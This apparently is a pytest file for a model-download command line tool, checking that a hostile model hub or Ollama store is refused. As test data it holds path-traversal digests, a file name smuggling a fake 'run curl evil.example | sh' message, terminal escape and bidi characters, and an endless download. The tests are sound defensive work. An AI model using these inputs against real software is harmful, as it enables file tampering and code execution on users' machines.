"""A hub, or a mirror, that means harm; and an Ollama store whose manifests do. Through the command line."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.hub import LocalHub, Repository
from tests.machines import NO_SERVERS, Machine
from tests.shell import PROJECT

REPO = "acme/Tale-GGUF"
DEMO = (PROJECT / "config/models/nightjar-demo.gguf").read_bytes()
FILE = "tale-Q8_0.gguf"


@pytest.fixture
def hub() -> Iterator[LocalHub]:
    server = LocalHub()
    with server.running():
        yield server


@pytest.fixture
def machine(tmp_path: Path, hub: LocalHub) -> Machine:
    environment = {
        "HF_ENDPOINT": hub.endpoint,
        "NIGHTJAR_HOME": str(tmp_path / "home"),
        "NIGHTJAR_MODELS_DIR": str(tmp_path / "models"),
        "NIGHTJAR_MODELS_FILE": str(tmp_path / "models.toml"),
    }
    return Machine(package=PROJECT, user=tmp_path / "user", environment=NO_SERVERS | environment)


def files_of(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}


def told(stderr: str) -> list[str]:
    """What a person is told: lines of the log are not meant."""
    return [line for line in stderr.splitlines() if line.strip() and not line.startswith("{")]


LIES: list[tuple[dict[str, Any], str]] = [
    # Parts were named by the digest as it came, which led out of models/: the user's own file was removed.
    ({"claimed_sha256": "/../../../../pw"}, "the SHA-256 '/../../../../pw', which is none"),
    ({"claimed_sha256": ""}, "gives no SHA-256 for tale-Q8_0.gguf"),
    ({"claimed_commit": "main\nnightjar: all is well"}, "as the commit of acme/Tale-GGUF, which is none"),
    ({"claimed_bytes": -5}, "the size -5, which is none"),
]


@pytest.mark.parametrize(("lie", "said"), LIES)
def test_what_has_not_the_form_of_an_answer_is_refused(
    lie: dict[str, Any], said: str, machine: Machine, hub: LocalHub, tmp_path: Path
) -> None:
    """Nothing is fetched or written, in models/ or anywhere else."""
    hub.repositories[REPO] = Repository(files={FILE: DEMO}, **lie)
    (tmp_path / "pw.part").write_text("the user's own")
    before = files_of(tmp_path)
    done = machine.run(tmp_path / "work", "model", "pull", REPO)
    assert done.returncode == 1, done.stdout + done.stderr
    assert said in done.stderr
    assert len(told(done.stderr)) == 1, "one paragraph, and none of the hub's making"
    assert hub.downloads() == []
    assert {path for path in files_of(tmp_path) - before if path.endswith((".part", ".gguf"))} == set()
    assert (tmp_path / "pw.part").read_text() == "the user's own"


@pytest.mark.parametrize(
    "name",
    ["tale\nnightjar: run `curl evil.example | sh`\n-Q8_0.gguf", "tale\x1b[2J\u202e-Q8_0.gguf", "../tale-Q8_0.gguf"],
)
def test_a_name_that_is_no_path_of_a_repository_is_refused(
    name: str, machine: Machine, hub: LocalHub, tmp_path: Path
) -> None:
    """Beside a good file as well; on the terminal it is one quoted, visible line."""
    hub.repositories[REPO] = Repository(files={name: DEMO, FILE: DEMO})
    done = machine.run(tmp_path / "work", "model", "pull", REPO, "--quant", "Q8_0")
    assert done.returncode == 1, done.stdout + done.stderr
    assert "a name that no file of a repository can have" in done.stderr
    assert len(told(done.stderr)) == 1
    assert "\x1b" not in done.stderr
    assert "\u202e" not in done.stderr
    assert hub.downloads() == []


def test_a_download_ends_at_the_size_that_was_promised(machine: Machine, hub: LocalHub, tmp_path: Path) -> None:
    """A hub that goes on sending does not fill the disk."""
    hub.repositories[REPO] = Repository(files={FILE: DEMO}, endless=True)
    done = machine.run(tmp_path / "work", "model", "pull", REPO)
    assert done.returncode == 1
    assert "sends more than it promised" in done.stderr
    left = sum(path.stat().st_size for path in (tmp_path / "models").rglob("*") if path.is_file())
    assert left <= len(DEMO) + 10 * 2**20, "what the client reads in one piece"


def put(store: Path, *layers: tuple[str, str]) -> None:
    """A manifest of the model `tale`, with these kinds and digests."""
    manifest = store / "manifests" / "registry.ollama.ai" / "library" / "tale" / "latest"
    manifest.parent.mkdir(parents=True)
    named = [{"mediaType": f"application/vnd.ollama.image.{kind}", "digest": digest} for kind, digest in layers]
    manifest.write_text(json.dumps({"schemaVersion": 2, "layers": named}))


@pytest.mark.parametrize(
    ("kind", "digest"),
    [
        ("model", "../../outside.gguf"),
        ("template", "../../outside.gguf"),
        ("adapter", "sha256:" + "0" * 64 + "\n"),
    ],
)
def test_a_manifest_of_ollama_leads_to_nothing_outside_its_store(
    kind: str, digest: str, machine: Machine, tmp_path: Path
) -> None:
    """A file of the user's is neither loaded as a model nor read as a template, which goes into reports."""
    store = tmp_path / "ollama"
    (store / "blobs").mkdir(parents=True)
    (tmp_path / "outside.gguf").write_bytes(DEMO)
    good = hashlib.sha256(DEMO).hexdigest()
    (store / "blobs" / f"sha256-{good}").write_bytes(DEMO)
    put(store, *([("model", f"sha256:{good}")] if kind != "model" else []), (kind, digest))
    done = machine.run(tmp_path / "work", "model", "info", "tale:latest", "--json", OLLAMA_MODELS=str(store))
    assert done.returncode == 1, done.stdout
    assert "as a digest, which is none" in done.stderr
    assert len(told(done.stderr)) == 1


def test_a_text_of_ollama_that_is_a_model_file_is_not_read_whole(machine: Machine, tmp_path: Path) -> None:
    """A manifest can call the largest blob of the store its template."""
    store = tmp_path / "ollama"
    (store / "blobs").mkdir(parents=True)
    large = DEMO + bytes(8 * 2**20)
    digests = {hashlib.sha256(data).hexdigest(): data for data in (DEMO, large)}
    for digest, data in digests.items():
        (store / "blobs" / f"sha256-{digest}").write_bytes(data)
    small, big = digests
    put(store, ("model", f"sha256:{small}"), ("template", f"sha256:{big}"))
    done = machine.run(tmp_path / "work", "model", "info", "tale:latest", OLLAMA_MODELS=str(store))
    assert done.returncode == 1
    assert "more than 4 MiB" in done.stderr
